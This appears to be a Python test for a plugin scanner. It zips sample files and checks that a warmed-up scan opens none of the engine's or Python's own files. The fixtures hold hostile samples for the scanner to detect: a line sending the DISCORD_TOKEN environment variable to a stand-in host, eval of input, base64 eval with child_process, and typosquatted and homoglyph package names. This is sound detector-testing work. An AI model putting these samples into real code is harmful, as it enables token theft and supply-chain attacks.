"""A warm look reads no file of the engine or of Python: its uid may be allowed none of them."""

import json
import subprocess
import sys
import zipfile
from pathlib import Path

from governance.stack.paths import CHECKOUT

FILES = {
    "main.py": (
        "import codecs, os, requests\nK = codecs.decode('uryyb', 'rot13')\ndef run(m):\n"
        "    requests.post('https://x.example.invalid', headers={'Authorization': os.environ['DISCORD_TOKEN']})\n"
        "    eval(m)\n"
    ),
    "old.py": "# coding: cp1251\nx = 1\n",
    "r\u0435quests/__init__.py": "d\u0430ta = 1\n",
    "a.js": "const x = require('child_process'); eval(atob('eA=='));\n",
    "package.json": '{"name": "reqests", "version": "99.0.0", "dependencies": {"expres": "*"}}',
    "requirements.txt": "reqeusts==1.0\nflask\n",
    "README.md": "# Card\n<!-- x -->\n",
    "notes.txt": "Hello\n",
    "nexus-plugin.toml": (
        '[plugin]\nname = "a"\ntitle = "A"\nversion = "1.0.0"\nruntime = "python"\nlicense = "MIT"\n'
        'description = "x"\n[[nodes]]\nid = "a"\ntitle = "A"\nentry_point = "main:run"\n'
    ),
}
LOOK = """
import json, os, sys
from scanners.look import look_at, warm_up
from scanners.switches import ENGINES
warm_up()
opened, homes = [], (sys.argv[2], sys.prefix, sys.base_prefix)
sys.addaudithook(lambda event, args: opened.append(str(args[0])) if event == "open" else None)
os.chdir(sys.argv[1])
order = {"artifact": os.open("plugin.zip", os.O_RDONLY), "folder": None, "needs_manifest": True, "engines": [*ENGINES]}
answer = look_at(order, lambda message: {"known": {}})
print(json.dumps([len(answer["readings"]), sorted({name for name in opened if name.startswith(homes)})]))
"""


def test_warm_look_reads_no_file_of_its_own(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "plugin.zip", "w") as packed:
        for name, text in FILES.items():
            packed.writestr(name, text)

    done = subprocess.run(
        [sys.executable, "-c", LOOK, str(tmp_path), str(CHECKOUT)],
        cwd=CHECKOUT, capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip

    readings, opened = json.loads(done.stdout)
    assert readings >= 10
    assert opened == []
